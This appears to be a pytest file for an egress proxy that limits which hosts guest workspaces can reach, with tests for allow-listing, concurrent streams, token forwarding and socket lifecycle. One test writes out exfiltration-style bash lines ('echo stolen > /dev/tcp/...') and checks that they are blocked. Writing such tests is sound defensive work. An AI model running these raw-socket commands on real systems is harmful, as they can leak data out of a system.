"""The way out of a guest: the same proxy as for every workspace, at the sockets that the driver offers."""

import os
import shlex
import stat
import uuid

import pytest

from tests.workspaces.egress.grounds import HOST_LOOPBACK, OPEN, Running, Server, Site

# curl takes seconds to begin with in an emulated guest; a shell does not.
ASK = r"""ask() { exec 3<>/dev/tcp/127.0.0.1/$1 && printf '%b' "$2" >&3 && cat <&3; echo; exec 3>&-; }"""


@pytest.fixture
def made():
    things = []
    yield lambda thing: things.append(thing) or thing
    for thing in reversed(things):
        thing.close()


@pytest.fixture
def way_out(made, standing):
    """`way_out(web)`: the proxy for the guest, which may reach a server behind good.test; (proxy, its server)."""

    def open_it(web=None):
        server = made(Server())
        site = Site(f"good.test:{server.port}")
        names = {"good.test": [OPEN], "bad.test": [OPEN]}
        return made(Running(site, names, web=web, listeners=standing.do.listeners(standing.owner))), server

    return open_it


def bash(guest, *lines: str) -> str:
    script = "\n".join((ASK, *lines))
    return guest.sh(f"bash -c {shlex.quote(script)} 2>&1 || true")


def get(host: str, port: int) -> str:
    return rf"ask 3128 'GET http://{host}:{port}/ HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n'"


def test_a_listed_host_is_reached_and_nothing_else(standing, way_out, made):
    proxy, server = way_out()
    canary = made(Server())
    said = bash(
        standing,
        get("good.test", server.port),
        get("bad.test", canary.port),
        get(OPEN, canary.port),
        *(f"echo stolen > /dev/tcp/{address}/{canary.port}" for address in (OPEN, "10.0.2.2", "192.0.2.1")),
    )
    assert (said.count("\nhello\n"), said.count("Blocked by Handrail"), said.count("it is not on the list")) == (
        1,
        2,
        1,
    )
    # bash says each twice.
    assert (said.count("Connection refused"), said.count("Network is unreachable")) == (2, 4)
    assert proxy.asked == ["good.test"]
    assert proxy.site.verdicts[0] == ("allowed", "good.test", server.port)
    assert (canary.connections, bytes(canary.got)) == (0, b"")


MANY = """
import http.client, os, threading
def once():
    body = os.urandom(300000)  # more than a stream may have on its way
    line = http.client.HTTPConnection("127.0.0.1", 3128, timeout=60)
    line.request("POST", "http://good.test:{port}/", body)
    print(line.getresponse().read() == body)
every = [threading.Thread(target=once) for _ in range(4)]
[one.start() for one in every]
[one.join() for one in every]
"""


def test_many_at_once_keep_their_bytes_apart(standing, way_out):
    _proxy, server = way_out()
    server.talk = echo
    assert standing.sh(f"python3 -c '{MANY.format(port=server.port)}'") == "True\n" * 4


def echo(sock, got):
    head = b""
    while b"\r\n\r\n" not in head:
        head += sock.recv(65536)
    head, _, body = head.partition(b"\r\n\r\n")
    length = int(head.lower().partition(b"content-length: ")[2].split()[0])
    while len(body) < length:
        body += sock.recv(65536)
    sock.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % length + body)


def test_handrail_is_reached_by_its_name_and_hears_the_token(standing, way_out, made):
    web = made(Server(HOST_LOOPBACK))
    way_out(web=(web.address, web.port))
    token = uuid.uuid4().hex
    said = standing.sh(
        f"curl -sS -H 'Authorization: Bearer {token}' http://handrail.internal/api/v1/me "
        "-o - http://handrail.internal/admin/ -o /dev/null -w ' %{http_code}'"
    )
    assert said == "hello 200 404"
    head = bytes(web.got).lower()
    assert head.startswith(b"get /api/v1/me http/1.1\r\n")
    assert f"authorization: bearer {token}\r\n".encode() in head
    assert web.connections == 1


def test_the_sockets_are_for_the_bridge_alone_and_are_made_anew(standing, way_out):
    first, server = way_out()
    folder = standing.ground / "run" / f"{standing.owner.run_id}.ports"
    for name in ("proxy", "internal"):
        found = os.stat(folder / name)
        assert (found.st_uid, stat.S_IMODE(found.st_mode)) == (standing.owner.uid, 0o600)
    first.close()  # as when a runner ends: nothing answers, and the guest goes on
    assert "hello" not in bash(standing, get("good.test", server.port))
    _next, server = way_out()
    assert "\nhello\n" in bash(standing, get("good.test", server.port))


def test_the_network_is_there_again_after_a_pause(standing, way_out):
    before, _server = way_out()
    standing.pause()
    before.close()
    standing.resume()
    _after, server = way_out()
    assert "\nhello\n" in bash(standing, get("good.test", server.port))
